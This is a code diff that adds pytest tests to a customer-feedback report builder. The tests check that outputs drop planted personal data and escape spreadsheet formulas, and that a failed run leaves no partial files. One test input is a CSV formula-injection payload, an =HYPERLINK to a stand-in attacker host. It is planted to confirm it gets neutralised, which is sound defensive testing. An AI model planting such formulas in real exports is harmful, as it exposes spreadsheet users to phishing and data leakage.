@@ -75,3 +75,40 @@ def test_report_in_headless_browser(report, tmp_path):
         driver.save_screenshot(str(Path(report.html).with_name("report.png")))
     finally:
         driver.quit()
+
+
+def test_no_output_holds_pii_or_live_formulas(tmp_path, sample_raw, embedder):
+    card, email, phone = "4111 1111 1111 1111", "jane.doe@acme.io", "+44 20 7946 0958"
+    df = sample_raw.head(80).copy()
+    df.loc[0, "account_id"] = "ceo@bigco.example"  # an account id that is an e-mail address
+    df.loc[1, "text"] = f'=HYPERLINK("http://evil.example/?x","click me") the export to CSV fails, mail {email}'
+    extra = pd.DataFrame({  # rejected rows: binary, too long, empty after cleaning; each carries PII
+        "id": ["bad-bin", "bad-long", "bad-empty"],
+        "text": [f"card {card}\x00\x01\x02\x03\x04\x05\x06\x07\x08", f"call {phone} " + "word " * 6000,
+                 f"<p></p>\n-- \nJane Doe | {email}"],
+        "source": ["support"] * 3, "account_id": ["a1", "a2", "a3"], "account_revenue": [1.0, 2.0, 3.0],
+        "created_at": [df["created_at"].iloc[0]] * 3,
+    })
+    out = tmp_path / "r"
+    summary = build_report(pd.concat([df, extra], ignore_index=True), out, embedder=embedder, min_theme_size=5)
+    assert summary.rejected >= 2
+    assert "bad-bin" in (out / "rejected.csv").read_text() and "bad-long" in (out / "rejected.csv").read_text()
+    for path in out.iterdir():
+        text = path.read_text(encoding="utf-8", errors="replace")
+        for secret in (card, email, phone, "ceo@bigco.example", "7946 0958"):
+            assert secret not in text, f"{secret!r} in {path.name}"
+    items = pd.read_csv(out / "items.csv", dtype=str, keep_default_na=False)
+    assert not items["text"].str.startswith("=").any()
+    assert items["text"].str.startswith("'=HYPERLINK").any()
+
+
+def test_a_failed_report_leaves_no_partial_outputs(tmp_path, sample_raw, embedder, monkeypatch):
+    import feedback_nlp.report as report_mod
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("chart failed")
+
+    monkeypatch.setattr(report_mod, "_png", broken)
+    with pytest.raises(RuntimeError, match="chart failed"):
+        build_report(sample_raw.head(60), tmp_path / "r", embedder=embedder, min_theme_size=5)
+    assert not (tmp_path / "r").exists()
